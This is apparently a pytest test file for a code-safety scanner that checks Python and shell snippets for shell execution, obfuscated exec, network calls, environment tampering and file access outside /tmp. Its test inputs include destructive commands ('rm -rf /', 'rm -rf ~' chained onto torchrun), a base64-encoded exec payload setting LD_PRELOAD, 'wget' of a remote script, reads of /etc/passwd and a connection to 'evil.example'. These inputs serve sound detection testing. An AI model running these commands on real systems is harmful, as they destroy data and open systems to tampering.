from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.safety.rules import Category
from core.safety.scanner import scan, scan_python, scan_shell


def cats(code: str) -> set[str]:
    return {f.category.value for f in scan_python(code).findings}


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess as sp\nsp.Popen(['ls'])\n",
        "from os import system as s\ns('ls')\n",
        "import os.path\nos.system('ls')\n",
        "import os\nf = os.system\nf('ls')\n",
        "import os as o\nx = o\nx.popen('ls')\n",
        "import posix\nposix.system('ls')\n",
        "import os\nos.__dict__['system']('ls')\n",
        "import os\nvars(os)['system']('ls')\n",
        "from os import *\nsystem('ls')\n",
        "import importlib\nimportlib.import_module('subprocess').call('ls')\n",
    ],
)
def test_aliases_and_attribute_chains_resolve_to_shell_execution(code):
    assert "shell_execution" in cats(code)


def test_findings_carry_line_code_and_reason():
    report = scan_python("import torch\n\nimport os\nos.system('rm -rf /')\n")
    f = next(f for f in report.findings if f.category is Category.SHELL_EXECUTION)
    assert f.line == 4 and f.code == "os.system('rm -rf /')" and "os.system" in f.reason
    assert any(f.category is Category.FILE_OUTSIDE_TMP for f in report.findings)
    assert report.as_json()["findings"][0].keys() == {"category", "line", "code", "reason"}


def test_torch_compile_and_model_eval_are_not_builtins():
    assert cats("import torch\nm = torch.nn.Linear(2, 2).eval()\ntorch.compile(m)\nfrom torch import compile\ncompile(m)\n") == set()


def test_rebound_builtin_name_is_not_flagged():
    assert cats("def eval(x):\n    return x\neval(3)\n") == set()


def test_launcher_exemption_is_narrow():
    assert cats("import subprocess\nsubprocess.run(['torchrun', '--nproc_per_node=1', 'r.py'])\n") == set()
    assert cats("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'torch.distributed.run', 'r.py'])\n") == set()
    assert "shell_execution" in cats("import subprocess\nsubprocess.run('torchrun r.py && rm -rf ~', shell=True)\n")
    assert "shell_execution" in cats("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n")
    assert "shell_execution" in cats("import subprocess\nsubprocess.run(cmd)\n")  # unknown command


def test_torch_load_weights_only_forms():
    assert cats("import torch\ntorch.load('/tmp/a.pt', weights_only=True)\n") == set()
    assert cats("import torch\ntorch.load('/tmp/a.pt')\n") == {"external_load"}
    assert cats("import torch\nflag = True\ntorch.load('/tmp/a.pt', weights_only=flag)\n") == {"external_load"}


def test_socket_loopback_is_fine_remote_is_not():
    assert cats("import socket\ns = socket.socket()\ns.connect(('localhost', 29500))\n") == set()
    assert cats("import socket\ns = socket.socket()\ns.connect(('evil.example', 80))\n") == {"network"}


def test_exec_of_decoded_payload_is_scanned_inside():
    import base64

    payload = base64.b64encode(b"import os\nos.environ['LD_PRELOAD'] = 'x.so'\n").decode()
    report = scan_python(f"import base64\nexec(base64.b64decode('{payload}'))\n")
    found = {f.category.value for f in report.findings}
    assert {"shell_execution", "obfuscation", "environment"} <= found
    assert any("hidden in the code passed to exec" in f.reason for f in report.findings)


def test_environment_allow_list():
    assert cats("import os\nos.environ['TORCH_LOGS'] = '+dynamo'\nos.environ['NCCL_DEBUG'] = 'INFO'\n") == set()
    assert cats("import os\nos.environ['HOME'] = '/tmp'\n") == {"environment"}
    assert cats("import os\ndel os.environ['PATH']\n") == {"environment"}
    assert cats("import os\nos.environ |= {'PYTHONPATH': 'x'}\n") == {"environment"}
    assert cats("import os\nos.environ.clear()\n") == {"environment"}


def test_file_writes():
    assert cats("open('/tmp/x', 'w').write('1')\n") == set()
    assert cats("open('out.txt', 'w').write('1')\n") == set()  # relative: the scratch dir
    assert cats("open('/home/u/x', 'w').write('1')\n") == {"file_outside_tmp"}
    assert cats("open('/home/u/x').read()\n") == {"file_outside_tmp"}  # a user's file
    assert cats("open('/tmp/x').read()\nopen(__file__).read()\nopen('rel.txt').read()\n") == set()
    assert cats("def f(p):\n    open(p, 'w')\n") == {"file_outside_tmp"}  # unknown target


def test_unparseable_is_never_clean():
    report = scan_python("def broken(:\n    pass\n")
    assert not report.parsed and not report.clean and report.syntax_error
    assert report.findings == ()
    report = scan_python("print 'x'\nimport subprocess\n")
    assert not report.clean and {f.category.value for f in report.findings} == {"shell_execution"}


def test_shell_blocks():
    assert scan_shell("$ torchrun --nproc_per_node=2 repro.py\n# pip install is a comment\n").clean
    found = {f.category.value for f in scan_shell("wget http://x/a.sh\nsudo apt-get install foo\nrm -rf ~/x\n").findings}
    assert found == {"network", "package_install", "shell_execution", "file_outside_tmp"}
    assert scan("pip install x", "bash").findings[0].category is Category.PACKAGE_INSTALL


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_scanner_never_crashes_on_arbitrary_text(text):
    report = scan_python(text)
    assert report.parsed or not report.clean
    scan_shell(text)


_atoms = st.sampled_from([
    "import os", "import subprocess as sp", "x = 1", "os.system('id')", "sp.run(['ls'])", "exec(x)",
    "getattr(os, 'sy' + 'stem')('id')", "y = ''.join(chr(c) for c in [1])", "open('/etc/passwd')",
    "os.environ['A'] = 'b'", "torch.load('f')", "def f(a):\n    return a", "for i in range(3):\n    pass",
])


@settings(max_examples=150, deadline=None)
@given(st.lists(_atoms, min_size=1, max_size=8))
def test_scanner_is_deterministic_on_generated_programs(lines):
    code = "\n".join(lines) + "\n"
    assert scan_python(code) == scan_python(code)
